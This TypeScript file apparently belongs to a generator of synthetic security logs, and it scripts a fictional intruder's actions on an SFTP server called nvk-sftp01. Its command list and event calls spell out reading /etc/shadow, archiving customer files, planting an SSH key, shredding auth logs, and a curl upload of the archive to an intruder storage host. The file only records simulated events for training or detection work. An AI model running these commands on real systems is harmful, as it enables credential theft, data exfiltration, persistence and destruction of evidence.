import { intruder, intruderNames } from '../company/addresses.ts';
import { hostNamed } from '../company/hosts.ts';
import { execute, type LinuxCommand, sshLogin, sudo, syslog } from '../events/linux.ts';
import type { Scene } from '../events/scene.ts';
import { adminKey, linuxAdmin } from '../noise/linux.ts';
import { at, second } from '../period.ts';

const commands: readonly (readonly [exe: string, ...argv: string[]])[] = [
  ['/usr/bin/id', 'id'],
  ['/usr/bin/cat', 'cat', '/etc/shadow'],
  ['/usr/bin/find', 'find', '/srv/sftp/customers', '-newermt', '2025-01-01'],
  ['/usr/bin/tar', 'tar', 'czf', '/var/tmp/.cache-7f1.tgz', '/srv/sftp/customers'],
  ['/usr/bin/tee', 'tee', '-a', '/root/.ssh/authorized_keys'],
  ['/usr/bin/shred', 'shred', '-u', '/var/log/auth.log.1'],
];

/**
 * Thursday 20 November, 22:05: with the key that lay on the jump host the intruder signs in to the
 * server on which customers leave files, reads the password file, packs the files, and leaves a key.
 */
export function raidLinux(scene: Scene): void {
  const host = hostNamed('nvk-sftp01');
  let time = at('2025-11-20T22:05:17');
  const pid = 48_211;
  sshLogin(scene, {
    at: time,
    host,
    user: linuxAdmin,
    from: hostNamed('NVK-JMP01').ip,
    pid,
    fingerprint: adminKey,
  });
  let next = pid + 20;
  const common = { host, ppid: pid + 2, login: linuxAdmin, session: 4417, cwd: '/home/salbrecht' };
  for (const [exe, ...argv] of commands) {
    time += scene.random.int(9, 55) * second;
    next += 12;
    const command: Omit<LinuxCommand, 'user'> = { ...common, at: time, pid: next, exe, argv };
    if (exe === '/usr/bin/id') execute(scene, { ...command, user: linuxAdmin });
    else sudo(scene, command);
  }
  time += 40 * second;
  execute(scene, {
    ...common,
    at: time,
    pid: next + 12,
    user: linuxAdmin,
    exe: '/usr/bin/curl',
    argv: [
      'curl',
      '-s',
      '-T',
      '/var/tmp/.cache-7f1.tgz',
      `https://${intruderNames.storage}/in/7f1`,
    ],
  });
  syslog(scene, {
    at: time + second,
    host,
    facility: 'kern',
    severity: 'warning',
    process: 'kernel',
    pid: 0,
    message: `[UFW BLOCK] IN= OUT=eth0 SRC=${host.ip} DST=${intruder.storage.ip} LEN=60 TTL=64 PROTO=TCP SPT=50412 DPT=443`,
  });
  syslog(scene, {
    at: time + 90 * second,
    host,
    facility: 'authpriv',
    process: 'sshd',
    pid,
    message: `pam_unix(sshd:session): session closed for user ${linuxAdmin.name}`,
  });
}
